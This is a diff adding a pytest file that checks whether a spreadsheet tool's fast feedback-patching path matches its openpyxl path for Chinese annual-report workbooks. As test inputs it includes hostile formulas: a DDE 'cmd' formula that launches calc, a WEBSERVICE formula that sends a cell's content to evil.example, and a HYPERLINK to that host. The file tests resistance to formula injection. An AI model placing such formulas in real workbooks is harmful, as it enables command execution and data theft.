@@ -1,0 +1,196 @@
+"""The fast feedback path (xltool.read.feedback_patch) against the openpyxl path it replaces.
+
+For many returned files (own-written filled templates of both formats, the client dialects,
+LibreOffice re-saves, hostile formulas in inputs, a second round made from a feedback file) and
+issues on plain, merged, absent and hidden-sheet cells, both feedback workbooks are loaded with
+openpyxl and must agree on everything a township sees: sheets and their order, every cell's value,
+type, fill, font, alignment, protection and comment, merges, links, filters, panes, print set-up,
+names and the active sheet. Whole values are compared.
+"""
+
+from __future__ import annotations
+
+import io
+from pathlib import Path
+from typing import Any
+
+import client_dialects
+import libreoffice as lo
+import openpyxl
+import pytest
+from test_feedback import INJECTION, LIST, issues
+
+from xltool.base.internals import existing_cells
+from xltool.check.evaluate import flatten
+from xltool.check.issues import Issue
+from xltool.check.report_json import load_report
+from xltool.read.feedback import _sniff, openpyxl_feedback, write_feedback
+from xltool.read.feedback_patch import patch
+from xltool.read.feedback_styles import Unhandled
+from xltool.read.feedback_text import TEXT
+from xltool.read.reader import read_workbook
+from xltool.spec.layout import build_layout
+from xltool.spec.model import load_model
+from xltool.template.writer import TemplateOptions, write_template
+
+ROOT = Path(__file__).resolve().parent.parent
+HOSTILE = ("=cmd|' /C calc'!A0", '=WEBSERVICE("http://evil.example/?"&B4)', INJECTION)
+DIALECTS = [
+    client_dialects.excel_extensions,
+    client_dialects.excel_float_digits,
+    client_dialects.explicit_numeric_type,
+    client_dialects.inline_strings,
+    client_dialects.str_text,
+    client_dialects.no_references,
+    client_dialects.prefixed_namespace,
+]
+
+
+def filled(schema: str, sample: str, year: int) -> bytes:
+    model = load_model(schema)
+    values = flatten(model, load_report(ROOT / "samples" / sample))
+    values = {p: (float(v) if type(v).__name__ == "Decimal" else v) for p, v in values.items()}
+    options = TemplateOptions(year=year, org_name="某乡", issue_date="2026-01-05", values=values)
+    return write_template(model, options)[0]
+
+
+def extra_issues(schema: str) -> list[Issue]:
+    """Issues on a merged cell (inside the range), absent cells, a hidden sheet and no cell."""
+    layout = build_layout(load_model(schema))
+    code = layout.fields["/organization/code"].box
+    return [
+        Issue("MERGED", "error", "合并区域内", "inside a merge", sheet=code.sheet, cell="C5"),
+        Issue("ABSENT_ROW", "warning", "空行", "absent row", sheet=code.sheet, cell="F40"),
+        Issue("ABSENT_COL", "error", "空列", "absent column", sheet=code.sheet, cell="K4"),
+        Issue("HIDDEN", "warning", "隐藏表", "hidden sheet", sheet="_xltool", cell="B2", found="=1+1"),
+        Issue("NOWHERE", "error", "没有单元格", "no cell", pointer="/x", found={"a": [1, "=2"]}),
+        Issue("BAD", "warning", "坏坐标", "bad cell", sheet=code.sheet, cell="XFE1"),
+    ]
+
+
+def with_formulas(data: bytes, schema: str) -> bytes:
+    """Hostile formulas typed into input cells (and one into a locked label cell)."""
+    layout = build_layout(load_model(schema))
+    wb = openpyxl.load_workbook(io.BytesIO(data))
+    inputs = [f for f in layout.fields.values() if not f.derived][3:6]  # after name, code and year
+    for field, formula in zip(inputs, HOSTILE, strict=True):
+        box = field.box
+        wb[box.sheet][box.a1] = formula
+    wb[layout.sheets[1].name]["A1"] = '=HYPERLINK("http://evil.example/","x")'
+    buffer = io.BytesIO()
+    wb.save(buffer)
+    return buffer.getvalue()
+
+
+def _colour(c: Any) -> Any:
+    return None if c is None else (c.type, c.rgb if c.type == "rgb" else c.theme if c.type == "theme" else c.indexed)
+
+
+def snapshot(data: bytes) -> dict[str, Any]:
+    """Everything of a feedback workbook a reader of it sees, as plain values.
+
+    Spellings openpyxl does not keep are taken as one: an empty text cell (openpyxl writes
+    `<c t="inlineStr"/>`, which it reads back as None of type "inlineStr"; the patch keeps the
+    source's cell), an empty unformatted cell and no cell, tabSelected absent or "0"."""
+    wb = openpyxl.load_workbook(io.BytesIO(data))
+    out: dict[str, Any] = {
+        "sheets": wb.sheetnames,
+        "active": wb.active.title,
+        "lock": (wb.security.lockStructure if wb.security else None),
+        "names": sorted((n, d.value) for n, d in wb.defined_names.items()),
+    }
+    for ws in wb.worksheets:
+        cells = {}
+        for c in existing_cells(ws):
+            comment = (c.comment.text, c.comment.author) if c.comment else None
+            font, align = c.font, c.alignment
+            empty = c.value in ("", None) and c.data_type in ("s", "inlineStr", "n")
+            if empty and not c.has_style and c.comment is None and c.hyperlink is None:
+                continue  # nothing to see: openpyxl drops such a cell when it saves, the patch keeps it
+            cells[c.coordinate] = (
+                None if empty else c.value,
+                "s" if empty else c.data_type,
+                (c.fill.fill_type, _colour(c.fill.fgColor)),
+                (font.b, font.i, font.sz, font.u, _colour(font.color), font.name),
+                (align.horizontal, align.vertical, align.wrap_text),
+                (c.protection.locked, c.protection.hidden),
+                c.number_format,
+                c.quotePrefix,
+                c.border.left.style,
+                comment,
+                (c.hyperlink.location, c.hyperlink.target) if c.hyperlink else None,
+            )
+        out[ws.title] = {
+            "cells": cells,
+            "state": ws.sheet_state,
+            "protection": dict(ws.protection),
+            "merged": sorted(str(r) for r in ws.merged_cells.ranges),
+            "filter": ws.auto_filter.ref,
+            "freeze": ws.freeze_panes,
+            "selected": [bool(v.tabSelected) for v in ws.views.sheetView],
+            "titles": (ws.print_title_rows, ws.print_title_cols, ws.print_area),
+            "page": (ws.page_setup.orientation, ws.page_setup.fitToHeight, ws.sheet_properties.pageSetUpPr.fitToPage)
+            if ws.sheet_properties.pageSetUpPr
+            else (ws.page_setup.orientation, ws.page_setup.fitToHeight, None),
+            "widths": {k: d.width for k, d in ws.column_dimensions.items() if d.customWidth},
+            "validations": len(ws.data_validations.dataValidation),
+            "conditional": len(ws.conditional_formatting),
+            "local names": sorted((n, d.value) for n, d in ws.defined_names.items()),
+        }
+    return out
+
+
+def both(data: bytes, found: list[Issue], tmp: Path, lang: str = "zh", title: str | None = None) -> tuple[bytes, bytes]:
+    source = tmp / "source.xlsx"
+    source.write_bytes(data)
+    sniffed = _sniff(source)
+    fast = patch(sniffed.data, found, TEXT[lang], lang, title)
+    slow = openpyxl_feedback(sniffed, source, found, lang=lang, title=title)
+    return fast, slow
+
+
+def diff(a: dict[str, Any], b: dict[str, Any]) -> list[Any]:
+    """The first differences, readable in a failure (the test compares the whole snapshots)."""
+    out: list[Any] = []
+    for key in sorted(set(a) | set(b)):
+        if a.get(key) == b.get(key):
+            continue
+        if isinstance(a.get(key), dict) and isinstance(b.get(key), dict):
+            out += [(key, *d) for d in diff(a[key], b[key])]
+        else:
+            out.append((key, a.get(key), b.get(key)))
+    return out[:20]
+
+
+def make_sources() -> dict[str, tuple[bytes, str]]:
+    """Returned files by name: (bytes, schema)."""
+    f21, f19 = (
+        filled("annual-report-2021", "synthetic-2021.json", 2025),
+        filled("annual-report-2019", "hucun-2020.json", 2020),
+    )
+    out = {"own-2021": (f21, "annual-report-2021"), "own-2019": (f19, "annual-report-2019")}
+    out["formulas-2021"] = (with_formulas(f21, "annual-report-2021"), "annual-report-2021")
+    out["formulas-2019"] = (with_formulas(f19, "annual-report-2019"), "annual-report-2019")
+    for rewrite in DIALECTS:
+        out[rewrite.__name__] = (client_dialects.apply(out["formulas-2021"][0], rewrite), "annual-report-2021")
+    return out
+
+
+@pytest.fixture(scope="module")
+def sources() -> dict[str, tuple[bytes, str]]:
+    return make_sources()
+
+
+def issues_for(path: Path, schema: str) -> list[Issue]:
+    return read_workbook(path, model=load_model(schema)).issues + extra_issues(schema)
+
+
+def test_patched_feedback_equals_the_openpyxl_one(sources: dict[str, tuple[bytes, str]], tmp_path: Path) -> None:
+    for name, (data, schema) in sources.items():
+        path = tmp_path / f"{name}.xlsx"
+        path.write_bytes(data)
+        found = issues_for(path, schema) + (issues() if schema == "annual-report-2021" else [])
+        fast, slow = both(data, found, tmp_path)
+        a, b = snapshot(fast), snapshot(slow)
+        assert diff(a, b) == [], name
+        assert a == b, name
